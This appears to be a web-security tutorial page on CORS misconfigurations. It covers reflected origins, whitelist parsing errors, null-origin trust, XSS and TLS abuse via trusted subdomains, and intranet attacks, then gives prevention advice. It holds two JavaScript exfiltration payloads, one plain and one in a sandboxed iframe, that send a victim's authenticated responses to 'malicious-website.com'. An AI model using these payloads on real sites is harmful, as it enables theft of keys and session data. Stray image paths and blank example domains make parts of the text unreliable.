Burp Suite Enterprise Edition is now available in our secure Cloud  –  Learn more

Cross-origin resource sharing (CORS)

In this section, we will explain what cross-origin resource sharing (CORS) is, describe some common examples of cross-origin resource sharing based attacks, and discuss how to protect against these attacks. This topic was written in collaboration with PortSwigger Research, who popularized this attack class with the presentation Exploiting CORS misconfigurations for Bitcoins and bounties.

What is CORS (cross-origin resource sharing)?

Cross-origin resource sharing (CORS) is a browser mechanism which enables controlled access to resources located outside of a given domain. It extends and adds flexibility to the same-origin policy (SOP). However, it also provides potential for cross-domain attacks, if a website's CORS policy is poorly configured andimplemented. CORS is not a protection against cross-origin attacks such as cross-site request forgery (CSRF).



If you're already familiar with the basic concepts behind CORS vulnerabilities and just want to practice exploiting them on some realistic, deliberately vulnerable targets, you can access all of the labs in this topic from the link below.

Same-origin policy

The same-origin policy is a restrictive cross-origin specification that limits the ability for a website to interact with resources outside of the source domain. The same-origin policy was defined many years ago in response to potentially malicious cross-domain interactions, such as one website stealing private data from another. It generally allows a domain to issue requests to other domains, but not to access the responses.

Read more

Relaxation of the same-origin policy

The same-origin policy is very restrictive and consequently various approaches have been devised to circumvent the constraints. Many websites interact with subdomains or third-party sites in a way that requires full cross-origin access. A controlled relaxation of the same-origin policy is possible using cross-origin resource sharing (CORS).

The cross-origin resource sharing protocol uses a suite of HTTP headers that define trusted web origins and associated properties such as whether authenticated access is permitted. These are combined in a header exchange between a browser and the cross-origin web site that it is trying to access.

Vulnerabilities arising from CORS configuration issues

Many modern websites use CORS to allow access from subdomains and trusted third parties. Their implementation of CORS may contain mistakes or be overly lenient to ensure that everything works, and this can result inexploitable vulnerabilities.

Server-generated ACAO header from client-specified Origin header

Some applications need to provide access to a number of other domains. Maintaining a list of allowed domains requires ongoing effort, and any mistakes risk breaking functionality. So some applications take the easy route of effectively allowing access from any other domain.

One way to do this is by reading the Origin header from requests and including a response header stating that the requesting origin is allowed. For example, consider an application that receives the following request:

GET /sensitive-victim-data HTTP/1.1 Host: vulnerable-website.com Origin: https://malicious-website.com Cookie: sessionid=...

It then responds with:

HTTP/1.1 200 OK Access-Control-Allow-Origin: https://malicious-website.com Access-Control-Allow-Credentials: true ...

These headers state that access is allowed from the requesting domain (malicious-website.com) and that the cross-origin requests can include cookies (Access-Control-Allow-Credentials: true) and so will be processed in-session.

Because the application reflects arbitrary origins in the Access-Control-Allow-Origin header, this means that absolutely any domain can access resources from the vulnerable domain. If the response contains any sensitive information such as an API key or CSRF token, you could retrieve this by placing the following script on your website:

var req = new XMLHttpRequest(); req.onload = reqListener;req.open('get','https://vulnerable-website.com/sensitive-victim-data',true); req.withCredentials = true; req.send(); function reqListener() { location='//malicious-website.com/log?key='+this.responseText; };

Errors parsing Origin headers

Some applications that support access from multiple origins do so by using a whitelist of allowed origins. When a CORS request is received, the supplied origin is compared to the whitelist. If the origin appears on the whitelist then it is reflected in the Access-Control-Allow-Origin header so that access is granted. For example, the application receives a normal request like:

GET /data HTTP/1.1 Host: normal-website.com ... Origin: https://innocent-website.com

The application checks the supplied origin against its list of allowed origins and, if it is on the list, reflects the origin as follows:

HTTP/1.1 200 OK ... Access-Control-Allow-Origin: https://innocent-website.com

Mistakes often arise when implementing CORS origin whitelists. Some organizations decide to allow access from all their subdomains (including future subdomains not yet in existence). And some applications allow access from various other organizations' domainsincluding their subdomains. These rules are often implemented by matching URL prefixes or suffixes, or using regular expressions. Any mistakes in the implementation can lead to access being granted to unintended external domains.

For example, suppose an application grants access to all domains ending in:


An attacker might be able to gain access by registering the domain:


Alternatively, suppose an application grants access to all domains beginning with


An attacker might be able to gain access using the domain:


Whitelisted null origin value

The specification for the Origin header supports the value null. Browsers might send the value null in the Origin header in various unusual situations:• Cross-origin redirects.
  • Requests from serialized data.
  • Request using the file: protocol.
  • Sandboxed cross-origin requests.

Some applications might whitelist the null origin to support local development of the application. For example, suppose an application receives the following cross-origin request:

GET/sensitive-victim-data Host: vulnerable-website.com Origin: null

And the server responds with:

HTTP/1.1 200 OK Access-Control-Allow-Origin: null Access-Control-Allow-Credentials: true

In this situation, an attacker can use various tricks to generate a cross-origin request containing the value null in the Origin header. This will satisfy the whitelist, leading to cross-domain access. For example, this can be done using a sandboxed iframe cross-origin request of the form:

<iframe sandbox="allow-scripts allow-top-navigation allow-forms" src="data:text/html,<script> var req = new XMLHttpRequest(); req.onload = reqListener; req.open('get','vulnerable-website.com/sensitive-victim-data',true); req.withCredentials = true; req.send(); function reqListener() { location='malicious-website.com/log?key='+this.responseText; }; </script>"></iframe>

Exploiting XSS via CORS trust relationshipsEven "correctly" configured CORS establishes a trust relationship between two origins. If a website trusts an origin that is vulnerable to cross-site scripting (XSS), then an attacker could exploit the XSS to inject some JavaScript that uses CORS to retrieve sensitive information from the site that trusts the vulnerable application.

Given the following request:

GET /api/requestApiKey HTTP/1.1 Host: vulnerable-website.com Origin: https://subdomain.vulnerable-website.com Cookie: sessionid=...

If the server responds with:

HTTP/1.1 200 OK Access-Control-Allow-Origin: https://subdomain.vulnerable-website.com Access-Control-Allow-Credentials: true

Then an attacker who finds an XSS vulnerability on subdomain.vulnerable-website.com could use that to retrieve the API key, using a URL like:


Breaking TLS with poorly configured CORS

Suppose an application that rigorously employs HTTPS also whitelists a trusted subdomain that is using plain HTTP. For example, when the application receives the followingrequest:

GET /api/requestApiKey HTTP/1.1 Host: vulnerable-website.com Origin: http://trusted-subdomain.vulnerable-website.com Cookie: sessionid=...

The application responds with:

HTTP/1.1 200 OK Access-Control-Allow-Origin: http://trusted-subdomain.vulnerable-website.com Access-Control-Allow-Credentials: true

In this situation, an attacker who is in a position to intercept a victim user's traffic can exploit the CORS configuration to compromise the victim's interaction with the application. This attack involves the following steps:

  • The victim user makes any plain HTTP request.
  • The attacker injects a redirection to:

  • The victim's browser follows the redirect.
  • The attacker intercepts the plain HTTP request, and returns a spoofed response containing a CORS request to:

  • The victim's browser makes the CORS request, including the origin:

  • The application allows the request because this is a whitelisted origin. The requested sensitive data is returned in the response.
  • The attacker's spoofed page can read the sensitive data and transmit it to any domain under the attacker's control.

This attack is effective even if the vulnerable website is otherwise robust in its usage ofHTTPS, with no HTTP endpoint and all cookies flagged as secure.

Intranets and CORS without credentials

Most CORS attacks rely on the presence of the response header:

Access-Control-Allow-Credentials: true

Without that header, the victim user's browser will refuse to send their cookies, meaning the attacker will only gain access to unauthenticated content, which they could just as easily access by browsing directly to the target website.However, there is one common situation where an attacker can't access a website directly: when it's part of an organization's intranet, and located within private IP address space. Internal websites are often held to a lower security standard than external sites, enabling attackers to find vulnerabilities and gain further access. For example, a cross-origin request within a private network may be as follows:

GET /reader?url=doc1.pdf Host: intranet.normal-website.com Origin: https://normal-website.com

And the server responds with:

HTTP/1.1 200 OK Access-Control-Allow-Origin: *

The application server is trusting resource requests from any origin without credentials. If users within the private IP address space access the public internet then a CORS-based attack can be performed from the external site that uses the victim's browser as a proxy for accessing intranet resources.

How to prevent CORS-based attacks

CORS vulnerabilities arise primarily as misconfigurations. Prevention is therefore a configuration problem. The following sections describe some effective defenses against CORS attacks.

Proper configuration of cross-origin requests

If a web resource contains sensitive information, the origin should be properly specified in the Access-Control-Allow-Origin header.

Only allow trusted sites

It may seem obvious but origins specified in the Access-Control-Allow-Origin header should only be sites that are trusted. In particular, dynamically reflecting origins from cross-origin requests without validation is readily exploitable and should be avoided.Avoid whitelisting null

Avoid using the header Access-Control-Allow-Origin: null. Cross-origin resource calls from internal documents and sandboxed requests can specify the null origin. CORS headers should be properly defined in respect of trusted origins for private and public servers.

Avoid wildcards in internal networks

Avoid using wildcards in internal networks. Trusting network configuration alone to protect internal resources is not sufficient when internal browsers can access untrusted external domains.

CORS is not a substitute for server-side security policies

CORS defines browser behaviors and is never a replacement for server-side protection of sensitive data - an attacker can directly forge a request from any trusted origin. Therefore, web servers should continue to apply protections over sensitivedata, such as authentication and session management, in addition to properly configured CORS.